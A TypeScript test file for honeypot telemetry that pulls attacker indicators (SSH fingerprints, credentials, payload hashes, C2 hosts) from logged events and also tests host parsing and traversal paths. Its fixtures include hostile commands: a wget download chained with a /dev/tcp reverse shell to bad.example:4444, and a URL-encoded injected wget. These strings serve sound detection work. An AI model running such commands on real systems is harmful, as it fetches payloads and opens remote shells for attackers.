import { hash } from 'node:crypto'
import { exampleRecord } from '@decnet/kernel/log/conformance'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FEATURES, featuresOf } from './features.ts'
import { hostOf, hostsIn } from './hosts.ts'
import { phaseOf } from './phases.ts'
import { traversalOf } from './traversal.ts'

const of = (type: string, body: Record<string, unknown>) =>
  featuresOf({ ...exampleRecord({ type, body }), seq: 1 })
    .filter(({ kind }) => kind !== 'decky')
    .map(({ kind, value }) => `${kind} ${value}`)

describe('features of an event', () => {
  it('name what an attacker can be told by', () => {
    expect(of('client_hello', { client_version: 'SSH-2.0-Go', hassh: 'a'.repeat(32) })).toEqual([
      `hassh ${'a'.repeat(32)}`,
      'client SSH-2.0-Go',
    ])
    expect(of('connect', { src_asn: '64500' })).toEqual(['asn 64500'])
    for (const src_asn of ['', '0', 'AS1', '1'.repeat(11), 7]) expect(of('connect', { src_asn })).toEqual([])
    const secret = Buffer.from('123456')
    expect(of('auth_attempt', { principal: 'root', secret_b64: secret.toString('base64') })).toEqual([
      `credential ["root","${hash('sha256', secret)}"]`,
    ])
    expect(of('auth_attempt', { principal: 'root', secret_b64: secret.toString('base64'), outcome: 'success' })).toEqual(
      ['credential', 'account'].map((kind) => `${kind} ["root","${hash('sha256', secret)}"]`),
    )
    for (const outcome of ['failure', 'success'])
      expect(of('auth_attempt', { principal: 'root', key_fingerprint: 'SHA256:abc', outcome })).toEqual([
        'credential ["root","SHA256:abc"]',
      ])
    expect(of('auth_attempt', { principal: 'root', secret_b64: 'AAAA', secret_kind: 'vnc_des_response' })).toEqual([])
    expect(of('file_captured', { sha256: 'b'.repeat(64) })).toEqual([`payload ${'b'.repeat(64)}`])
    expect(of('file_captured', { sha256: hash('sha256', '') })).toEqual([])
    expect(of('download_attempt', { url: 'http://Evil.example:8080/x.sh' })).toEqual([
      'payload http://Evil.example:8080/x.sh',
      'c2 evil.example:8080',
    ])
    expect(of('command', { command: 'wget http://198.51.100.9/x; exec 3<>/dev/tcp/bad.example/4444', mode: 'exec' }).slice(1)).toEqual([
      'c2 198.51.100.9',
      'c2 bad.example:4444',
    ])
    expect(of('command', { command: 'USER root', mode: 'protocol' })).toEqual([])
    expect(
      of('http_request', {
        user_agent: 'curl/8',
        headers: '[["Host","x"],["User-Agent","curl/8"]]',
        path: '/s?cd+/tmp;wget+http%3A%2F%2F203.0.113.80/m',
      }),
    ).toEqual(['user_agent curl/8', 'headers Host,User-Agent', 'c2 203.0.113.80'])
  })

  it('hold for any body, and are of known kinds', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('command', 'http_request', 'auth_attempt', 'file_captured', 'forward_attempt', '__proto__'),
        fc.object(),
        (type, body) => {
          for (const { kind, value } of featuresOf({ ...exampleRecord({ type, body: body as Record<string, unknown> }), seq: 1 })) {
            expect(Object.hasOwn(FEATURES, kind)).toBe(true)
            expect(value).not.toBe('')
          }
          phaseOf(type, body as Record<string, unknown>)
        },
      ),
    )
  })
})

describe('hosts', () => {
  it('are named as they are compared: lower case, without users, the port where it was said', () => {
    expect(hostOf('User:Pw@EVIL.example.:81')).toBe('evil.example:81')
    expect(hostOf('[2001:db8::1]:22')).toBe('[2001:db8::1]:22')
  })

  it('that many networks have are none', () => {
    for (const text of [
      '127.0.0.1',
      '10.0.0.1:80',
      '192.168.1.1',
      '172.31.0.1',
      '0.0.0.0',
      '[::1]',
      'localhost',
      '999.1.1.1',
      'printer.local',
      '',
    ])
      expect(hostOf(text), text).toBeNull()
  })

  it('are found in a megabyte of anything within a moment, and are few', () => {
    const began = performance.now()
    for (const piece of ['http://', 'a.', '1.', '/dev/tcp/', '@', '%25', 'http://a.b '])
      expect(hostsIn(piece.repeat(1_000_000 / piece.length)).length).toBeLessThanOrEqual(16)
    expect(performance.now() - began).toBeLessThan(2_000)
  })
})

it('a way is told from two deckies on: neighbouring visits to one are one hop, in the order of time', () => {
  const visit = (decky: string, from: number, service = 'ssh') => ({ decky, service, from, to: from + 5 })
  expect(traversalOf([visit('a', 0), visit('a', 10)])).toBeNull()
  expect(traversalOf([visit('b', 20), visit('a', 0), visit('a', 10, 'ftp'), visit('a', 30)])).toEqual({
    path: ['a', 'b'],
    hops: [
      { decky: 'a', services: ['ssh', 'ftp'], from: 0, to: 15, visits: 2 },
      { decky: 'b', services: ['ssh'], from: 20, to: 25, visits: 1 },
      { decky: 'a', services: ['ssh'], from: 30, to: 35, visits: 1 },
    ],
    from: 0,
    to: 35,
  })
})
